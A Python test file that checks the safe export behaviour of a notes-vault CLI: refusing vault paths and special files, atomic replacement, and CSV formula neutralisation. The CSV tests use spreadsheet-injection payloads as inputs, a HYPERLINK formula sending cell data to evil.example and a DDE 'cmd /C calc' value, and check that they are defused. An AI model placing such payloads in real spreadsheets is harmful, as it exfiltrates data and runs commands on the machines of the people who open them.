"""`export --out` writes as carefully as the engine writes a note: never into the vault,
never over a link, FIFO or device, an existing file replaced only with --force (its mode
kept), atomically (a full disk leaves the old file and no temp file); CSV formula cells are
neutralised. Real files, a real FIFO, a device node like /dev/full, a real full tmpfs, the real CLI."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import make_service
from typer.testing import CliRunner

from bridge.cli import app
from vault_sync.transfer.export import csv_cell

pytestmark = pytest.mark.skipif(sys.platform == "win32", reason="POSIX FIFOs, devices and modes")


def _export(vault: Path, out: Path, *extra: str):
    return CliRunner().invoke(app, ["export", "--format", "jsonl", "--out", str(out), "--vault", str(vault), *extra])


def _vault_files(vault: Path) -> dict[str, str]:
    return {
        str(p.relative_to(vault)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in vault.rglob("*")
        if p.is_file() and ".mnemovault" not in p.parts
    }


def _temps(folder: Path) -> list[str]:
    return [p.name for p in folder.iterdir() if ".mvtmp-" in p.name]


def test_a_new_export_is_complete_and_private(vault, tmp_path):
    out = tmp_path / "all.jsonl"
    res = _export(vault, out)
    assert res.exit_code == 0, res.output
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    lines = out.read_text(encoding="utf-8").splitlines()
    assert len(lines) > 20 and all(json.loads(line)["id"] for line in lines)
    assert _temps(tmp_path) == []


@pytest.mark.parametrize("where", ["root", "STM", "hidden", "linked folder"])
def test_a_path_inside_the_vault_is_refused(vault, tmp_path, where):
    (tmp_path / "link").symlink_to(vault, target_is_directory=True)
    out = {
        "root": vault / "dump.jsonl",
        "STM": vault / "STM" / "dump.md",
        "hidden": vault / ".mnemovault" / "dump.jsonl",
        "linked folder": tmp_path / "link" / "STM" / "dump.md",
    }[where]
    before = _vault_files(vault)
    res = _export(vault, out, "--force")
    assert res.exit_code == 2 and "inside the vault" in res.output, res.output
    assert not out.exists() and _vault_files(vault) == before
    assert not [p for p in vault.rglob("*mvtmp*")]


@pytest.mark.parametrize("kind", ["fifo", "symlink", "folder", "device"])
def test_special_files_are_never_written_even_with_force(vault, tmp_path, kind):
    target = tmp_path / "victim.txt"
    target.write_text("keep me\n", encoding="utf-8")
    out = tmp_path / "out"
    if kind == "fifo":
        os.mkfifo(out)  # opening it to write would block until a reader came: never opened
    elif kind == "symlink":
        out.symlink_to(target)
    elif kind == "folder":
        out.mkdir()
    else:  # a node of /dev/full's device in a temp dir: a broken export must not break the machine's
        try:
            os.mknod(out, stat.S_IFCHR | 0o666, os.makedev(1, 7))
        except (PermissionError, AttributeError):
            pytest.skip("creating a device node needs root")
    before = os.lstat(out)
    for extra in ((), ("--force",)):
        res = _export(vault, out, *extra)
        assert res.exit_code == 2 and "regular files only" in res.output, res.output
    after = os.lstat(out)
    assert (after.st_mode, after.st_ino, after.st_rdev) == (before.st_mode, before.st_ino, before.st_rdev)
    assert target.read_text(encoding="utf-8") == "keep me\n"
    assert _temps(out.parent) == []


@pytest.mark.parametrize("mode", [0o600, 0o640, 0o444])
def test_an_existing_file_is_kept_without_force_and_replaced_keeping_its_mode_with_it(vault, tmp_path, mode):
    out = tmp_path / "old.jsonl"
    out.write_text("last week's export\n", encoding="utf-8")
    out.chmod(mode)
    res = _export(vault, out)
    assert res.exit_code == 5 and "--force" in res.output, res.output
    assert out.read_text(encoding="utf-8") == "last week's export\n"
    res = _export(vault, out, "--force")
    assert res.exit_code == 0, res.output
    assert stat.S_IMODE(out.stat().st_mode) == mode
    assert json.loads(out.read_text(encoding="utf-8").splitlines()[0])["id"]
    assert _temps(tmp_path) == []


def test_a_full_disk_leaves_the_old_file_and_no_temp_file(vault, tmp_path):
    if os.geteuid() != 0:
        pytest.skip("filling a small tmpfs needs root (mount)")
    small = tmp_path / "small"
    small.mkdir()
    if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=16k", "tmpfs", str(small)], capture_output=True).returncode:
        pytest.skip("cannot mount a tmpfs here")
    try:
        out = small / "old.jsonl"
        out.write_text("last week's export\n", encoding="utf-8")
        res = _export(vault, out, "--force")  # the sample vault's export is larger than 16 KiB
        assert res.exit_code == 8 and "the disk is full" in res.output and ".mvtmp" not in res.output, res.output
        assert out.read_text(encoding="utf-8") == "last week's export\n"
        assert sorted(p.name for p in small.iterdir()) == ["old.jsonl"]
    finally:
        subprocess.run(["umount", str(small)], capture_output=True)


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_csv_formula_cells_are_neutralised(vault, start):
    svc = make_service(vault)
    try:
        payload = f'{start}HYPERLINK("http://evil.example/?"&A1,"click") saved as a memory about spreadsheets'
        saved = svc.save(payload, tags=["sheets"], title=f"{start}cmd|' /C calc'!A0 looks like a formula")["note"]
        rows = list(csv.DictReader(io.StringIO("".join(svc.export("csv", "stm")))))
    finally:
        svc.close()
    row = next(r for r in rows if r["id"] == saved["id"])
    assert row["title"] == "'" + saved["title"]
    assert row["text"].startswith("'" + start) and payload in row["text"]
    unsafe = [(r["id"], k) for r in rows for k, v in r.items() if v and v[0] in "=+-@\t\r"]
    assert unsafe == []
    assert any(r["use_count"].isdigit() for r in rows)  # numbers stay numbers


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_gets_an_apostrophe(start):
    assert csv_cell(f"{start}1+1") == f"'{start}1+1"
    assert csv_cell(f"a{start}1") == f"a{start}1" and csv_cell(-3) == -3 and csv_cell("") == ""
